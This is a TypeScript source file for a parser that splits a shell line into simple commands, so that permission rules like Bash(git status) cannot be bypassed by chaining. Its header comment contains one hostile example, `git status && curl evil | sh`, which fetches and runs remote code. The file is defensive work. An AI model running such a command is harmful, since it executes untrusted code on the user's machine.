// The simple commands of a shell command line, for tool rules: `Bash(git status)` must not allow
// `git status && curl evil | sh`, and `Bash(git push:*)` must deny `make && git push`. Pure.
//
// The line is split where the shell would run one command after another or side by side: at
// `;`, `&`, `&&`, `||`, `|`, `|&` and newlines outside quotes. Leading variable assignments
// (`FOO=1 npm test`) are not part of a command. What the text alone cannot say is left
// unjudged: command substitution (`$(...)`, backticks), process substitution, subshells and
// groups (parentheses and braces), and an unclosed quote or trailing backslash.

/** The commands of `line`, each trimmed; undefined when the line cannot be judged from its text. */
export function simpleCommands(line: string): string[] | undefined {
  const commands: string[] = [];
  let current = "";
  let quote: "'" | '"' | undefined;
  for (let i = 0; i < line.length; i++) {
    const char = line[i] ?? "";
    const next = line[i + 1] ?? "";
    if (quote === "'") {
      if (char === "'") quote = undefined;
      current += char;
      continue;
    }
    if (char === "\\") {
      if (i + 1 >= line.length) return undefined;
      // A backslash before a newline joins the lines; any other escaped character is literal.
      if (next !== "\n") current += char + next;
      i += 1;
      continue;
    }
    if (char === "`" || (char === "$" && next === "(")) return undefined;
    if (quote === '"') {
      if (char === '"') quote = undefined;
      current += char;
      continue;
    }
    if (char === "'" || char === '"') {
      quote = char;
      current += char;
      continue;
    }
    if ("(){}".includes(char)) return undefined;
    if ((char === "<" || char === ">") && next === "(") return undefined;
    if (char === ";" || char === "\n" || char === "&" || char === "|") {
      // `>&2`, `2>&1` and `&>` are redirections, not a second command.
      const redirect =
        char === "&" && (current.endsWith(">") || current.endsWith("<") || next === ">");
      if (!redirect) {
        commands.push(current);
        current = "";
        if ((char === "&" && next === "&") || (char === "|" && (next === "|" || next === "&"))) {
          i += 1;
        }
        continue;
      }
    }
    current += char;
  }
  if (quote !== undefined) return undefined;
  commands.push(current);
  return commands.map(withoutAssignments).filter((command) => command !== "");
}

/** A leading `NAME=value` (unquoted, or with a quoted value) and the blanks after it. */
const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=(?:'[^']*'|"(?:[^"\\]|\\.)*"|[^\s'"]*)\s+/su;

function withoutAssignments(command: string): string {
  let rest = command.trim();
  for (let match = ASSIGNMENT.exec(rest); match !== null; match = ASSIGNMENT.exec(rest)) {
    rest = rest.slice(match[0].length);
  }
  return rest;
}
